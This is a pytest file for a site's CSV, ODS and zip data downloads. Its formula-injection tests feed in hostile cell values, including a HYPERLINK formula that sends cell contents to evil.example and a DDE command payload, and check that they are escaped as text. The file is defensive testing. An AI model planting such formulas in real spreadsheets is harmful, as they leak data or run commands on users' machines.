"""Downloads read back as the records they were made from, in any spreadsheet: CSV for machines,
ODS for people (a cover, notes, one table a sheet), the whole site's in one zip; never a live
formula; the same bytes for the same content; every file opens in LibreOffice."""

from __future__ import annotations

import csv
import datetime
import io
import os
import re
import shutil
import subprocess
import zipfile

import pandas as pd
import pytest
from bs4 import BeautifulSoup

from strategies.content.loader import load_site
from strategies.pages import downloads
from strategies.pages.downloads import to_csv
from strategies.pages.spreadsheets import Sheet, ods_bytes

from support import FIXTURES, build_with_site_config

AS_AT = datetime.date(2030, 1, 1)  # progress as at this date in the downloads


def test_csv_keeps_every_field_and_leaves_missing_values_empty():
    records = [
        {"id": "a", "title": 'Say "hello", then\nwave', "percent": 50},
        {"id": "b", "title": "Plain", "percent": None, "due": "2025-03"},
    ]
    text = to_csv(records)
    assert text.splitlines()[0] == "id,title,percent,due"  # fields in the order they first appear
    assert list(csv.DictReader(io.StringIO(text, newline=""))) == [
        {"id": "a", "title": 'Say "hello", then\nwave', "percent": "50", "due": ""},
        {"id": "b", "title": "Plain", "percent": "", "due": "2025-03"},
    ]


def test_no_cell_runs_as_a_formula_in_a_spreadsheet():
    """Text a spreadsheet would run (=, +, -, @, or a tab or carriage return first) is shown as
    text; numbers, negative ones included, stay numbers."""
    hostile = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
    records = [{"title": text, "value": -3.5, "count": 0} for text in hostile]
    read = list(csv.DictReader(io.StringIO(to_csv(records), newline="")))
    # (a carriage return, which some readers take for a new row, is kept as a line break)
    assert [row["title"] for row in read] == ["'" + text.replace("\r", "\n") for text in hostile]
    assert {row["value"] for row in read} == {"-3.5"} and {row["count"] for row in read} == {"0"}


def test_chart_data_cells_cannot_run_as_formulas():
    from strategies.pages.charts import Chart

    chart = Chart(
        slug="status",
        title="=cmd|' /C calc'!A0",
        summary="",
        headers=["Item", "@count"],
        rows=[["=1+1", 2], ["Plain", -1]],
    )
    assert list(csv.reader(io.StringIO(chart.csv(), newline=""))) == [
        ["Item", "'@count"],
        ["'=1+1", "2"],
        ["Plain", "-1"],
    ]


# --- spreadsheets and the whole site's data ---------------------------------------------------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


def _complete(tmp_path):
    project = tmp_path / "complete"
    shutil.copytree(FIXTURES / "complete", project)
    site, problems = load_site(project / "content", project)
    assert not problems, problems.report()
    return project, site


def _sheets(data: bytes) -> dict:
    """A spreadsheet's sheets as pandas reads them: lists of rows of text and numbers."""
    book = pd.read_excel(
        io.BytesIO(data), sheet_name=None, engine="odf", header=None, dtype=object, keep_default_na=False
    )
    return {name: frame.to_numpy().tolist() for name, frame in book.items()}


def _csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture(scope="module")
def complete(tmp_path_factory):
    return _complete(tmp_path_factory.mktemp("downloads"))


def test_a_strategys_spreadsheet_has_a_cover_notes_and_one_table_a_sheet_matching_its_csv(complete):
    _, site = complete
    entry = site.strategies["fair-city"]
    files = downloads.downloads(site, entry, AS_AT)
    assert "fair-city.ods" in files and isinstance(files["fair-city.ods"], bytes)
    sheets = _sheets(files["fair-city.ods"])
    assert list(sheets) == ["Cover", "Notes", "Items", "Measures"]
    cover = [row[0] for row in sheets["Cover"]]
    assert cover[0] == "Fair City Health Inequalities Plan: items and measures"
    assert {"About this data", "Source", "Date", "Sheets in this file"} <= set(cover)
    assert (
        "Statuses as reported, the latest in a progress report dated 15 October 2028; each gives the date it "
        "was reported."
    ) in cover
    assert (
        "The Progress as at column says what is known as at 1 January 2030, the date this file was made: a "
        "status no longer current reads stale."
    ) in cover
    # the tables: plain-word headers, then the same rows as the CSV files, numbers as numbers
    for sheet, name, known in (
        ("Items", "items.csv", downloads.ITEM_COLUMNS),
        ("Measures", "measures.csv", downloads.MEASURE_COLUMNS),
    ):
        header, *rows = sheets[sheet]
        read = _csv_rows(files[name])
        assert header == [known[column][0] for column in read[0]]
        assert [[float(cell) if isinstance(cell, (int, float)) else cell for cell in row] for row in rows] == [
            [
                float(value) if value and column in ("value", "baseline", "target", "percent_complete") else value
                for column, value in record.items()
            ]
            for record in read
        ]
    values = [row[-1] for row in sheets["Measures"][1:]]
    assert values == [60.5, 61.5, 55.25, 71.5, 73.25] and all(isinstance(v, float) for v in values)
    assert "Wrong sheet note" not in str(files)  # the workbook's other sheet is not read
    notes = sheets["Notes"]
    assert notes[0] == ["Sheet", "Column", "Short name (CSV)", "What it holds"]
    assert all(row[3] for row in notes[1:]), "every column has a note"


def test_every_column_of_the_downloads_has_a_plain_name_and_a_note(complete):
    _, site = complete
    entry = site.strategies["fair-city"]
    assert list(downloads.item_records(site, entry, AS_AT)[0]) == list(downloads.ITEM_COLUMNS)
    assert list(downloads.measure_records(entry)[0]) == list(downloads.MEASURE_COLUMNS)
    for name, (label, note) in {**downloads.ITEM_COLUMNS, **downloads.MEASURE_COLUMNS}.items():
        assert label and note and "_" not in label, name


def test_no_spreadsheet_cell_runs_as_a_formula_and_numbers_stay_numbers():
    hostile = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1"]
    data = ods_bytes([Sheet("Items", [["Title", "Value"], *[[text, -3.5] for text in hostile]])])
    content = zipfile.ZipFile(io.BytesIO(data)).read("content.xml").decode("utf-8")
    assert "table:formula" not in content
    rows = _sheets(data)["Items"][1:]
    assert [row[0] for row in rows] == ["'" + text.replace("\t", "") for text in hostile]  # (pandas skips tabs)
    assert {row[1] for row in rows} == {-3.5}


def test_the_whole_sites_data_is_one_zip_matching_each_strategys_downloads(complete):
    _, site = complete
    files = downloads.site_downloads(site, AS_AT)
    assert set(files) == {
        "data/all-strategies-data.zip",
        "data/all-strategies.ods",
        "data/all-strategies-items.csv",
        "data/all-strategies-measures.csv",
    }
    with zipfile.ZipFile(io.BytesIO(files["data/all-strategies-data.zip"])) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
        assert all(info.date_time == (1980, 1, 1, 0, 0, 0) for info in archive.infolist())
    for entry in site.strategies.values():
        for name, content in downloads.downloads(site, entry, AS_AT).items():
            if not name.endswith(".ods"):
                assert members.pop(f"strategies/{entry.id}/{name}") == content.encode("utf-8"), name
    from strategies.content.schema import schema_files

    for name, text in schema_files().items():
        assert members.pop(f"schema/{name}") == text.encode("utf-8")
    readme = members.pop("README.txt").decode("utf-8")
    assert not members, f"unexpected files in the zip: {sorted(members)}"
    for name, (label, note) in {**downloads.ITEM_COLUMNS, **downloads.MEASURE_COLUMNS}.items():
        assert f"{name} ({label}): {note}" in readme
    # the site's tables are every strategy's, one after another
    items = _csv_rows(files["data/all-strategies-items.csv"])
    assert [row["id"] for row in items] == [
        row["id"]
        for entry in site.strategies.values()
        for row in _csv_rows(downloads.downloads(site, entry, AS_AT)["items.csv"])
    ]
    assert list(_sheets(files["data/all-strategies.ods"])) == ["Cover", "Notes", "Items", "Measures"]


def test_downloads_are_byte_identical_for_the_same_content(tmp_path, complete):
    """Made again from content loaded afresh, in another folder: the same bytes."""
    _, site = complete
    _, again = _complete(tmp_path)
    assert downloads.site_downloads(site, AS_AT) == downloads.site_downloads(again, AS_AT)
    # made from the files the strategies' pages publish (as a build does), the same bytes again
    from strategies.pages.urls import strategy_folder

    published = {
        strategy_folder(entry.id) + "data/" + name: content
        for entry in site.strategies.values()
        for name, content in downloads.downloads(site, entry, AS_AT).items()
    }
    assert downloads.site_downloads(site, AS_AT, published) == downloads.site_downloads(site, AS_AT)
    for entry_id, entry in site.strategies.items():
        assert downloads.downloads(site, entry, AS_AT) == downloads.downloads(again, again.strategies[entry_id], AS_AT)


@pytest.fixture(scope="module")
def built_complete(complete_build):
    return complete_build  # tests/fixtures/complete, built once a session (tests/conftest.py)


def test_the_data_downloads_are_linked_from_the_home_page_and_the_strategies_page(built_complete):
    site_dir = built_complete
    for page, prefix in (("index.html", ""), ("strategies/index.html", "../")):
        soup = BeautifulSoup((site_dir / page).read_text(encoding="utf-8"), "html.parser")
        links = [a["href"] for a in soup.find_all("a", href=True)]
        assert f"{prefix}data/all-strategies-data.zip" in links, (page, links)
    soup = BeautifulSoup((site_dir / "strategies/fair-city/index.html").read_text(encoding="utf-8"), "html.parser")
    offered = [a["href"] for a in soup.find_all("a", download=True)]
    assert "data/fair-city.ods" in offered and "data/items.csv" in offered
    for path in (
        "data/all-strategies-data.zip",
        "data/all-strategies.ods",
        "data/all-strategies-items.csv",
        "data/all-strategies-measures.csv",
        "strategies/fair-city/data/fair-city.ods",
    ):
        assert (site_dir / path).is_file(), path
        assert re.fullmatch(r"[a-z0-9/.-]+", path)  # lower case, dashes: plain file names


def test_two_builds_of_the_same_content_publish_the_same_downloads(tmp_path, built_complete):
    project = tmp_path / "again"
    shutil.copytree(FIXTURES / "complete", project)
    again = build_with_site_config(project)
    for path in sorted(built_complete.rglob("*")):
        if path.suffix in (".ods", ".zip", ".csv", ".json") and "search" not in path.parts:
            assert (again / path.relative_to(built_complete)).read_bytes() == path.read_bytes(), path


def _require_libreoffice():
    if SOFFICE:
        return
    message = "LibreOffice (soffice) is missing: `make test` installs it (Debian's libreoffice-calc-nogui) as root"
    if os.environ.get("CI"):
        pytest.fail(message, pytrace=False)
    pytest.skip(message)


def test_every_download_opens_in_libreoffice_with_the_sites_numbers(tmp_path, built_complete):
    """LibreOffice converts each spreadsheet (and the CSV files) without complaint, and what it
    reads is what the site shows: the same rows, the numbers as numbers."""
    _require_libreoffice()
    site_dir = built_complete
    sources = sorted(site_dir.glob("data/*.ods")) + sorted(site_dir.glob("strategies/*/data/*.ods"))
    sources += sorted(site_dir.glob("data/*.csv"))
    assert len(sources) >= 4
    out = tmp_path / "converted"
    for number, source in enumerate(sources):
        target = out / str(number)
        result = subprocess.run(
            [
                SOFFICE,
                "--headless",
                "--norestore",
                f"-env:UserInstallation=file://{tmp_path / 'profile'}",
                "--convert-to",
                "xlsx",
                "--outdir",
                str(target),
                str(source),
            ],
            capture_output=True,
            text=True,
            timeout=180,
        )
        converted = target / (source.stem + ".xlsx")
        assert result.returncode == 0 and converted.is_file(), (source, result.stdout, result.stderr)
        book = pd.read_excel(converted, sheet_name=None, header=None, dtype=object, keep_default_na=False)
        if source.suffix == ".ods":
            assert list(book)[:2] == ["Cover", "Notes"] and {"Items", "Measures"} <= set(book), source
            csv_folder = source.parent
            items = "all-strategies-items.csv" if source.parent == site_dir / "data" else "items.csv"
            expected = _csv_rows((csv_folder / items).read_text(encoding="utf-8"))
            rows = book["Items"].to_numpy().tolist()[1:]
            assert [row[1] for row in rows] == [row["id"] for row in expected]
            measures = book["Measures"].to_numpy().tolist()[1:]
            values = [row[-1] for row in measures if row[-1] != ""]
            assert all(isinstance(value, (int, float)) for value in values), values
            if source.stem == "fair-city":
                assert values == [60.5, 61.5, 55.25, 71.5, 73.25]


def test_no_cell_of_a_published_spreadsheet_runs_as_a_formula(model_hostile_site):
    """Hostile text in every field an officer writes: in the spreadsheets too, every text cell
    is text that starts with no formula character, and none is a formula."""
    from strategies.pages.cells import FORMULA_START

    spreadsheets = sorted(model_hostile_site.rglob("*.ods"))
    assert spreadsheets
    live, reached = [], False
    for path in spreadsheets:
        content = zipfile.ZipFile(path).read("content.xml").decode("utf-8")
        live.extend(f"{path.name}: a formula" for _ in re.finditer("table:formula", content))
        for sheet in _sheets(path.read_bytes()).values():
            for row in sheet:
                texts = [cell for cell in row if isinstance(cell, str)]
                live.extend(f"{path.name}: {cell[:40]!r}" for cell in texts if cell.startswith(FORMULA_START))
                reached = reached or any(cell.startswith("'=HYPERLINK(") for cell in texts)
    assert not live, "\n".join(live[:20])
    assert reached, "payloads reach the spreadsheets"
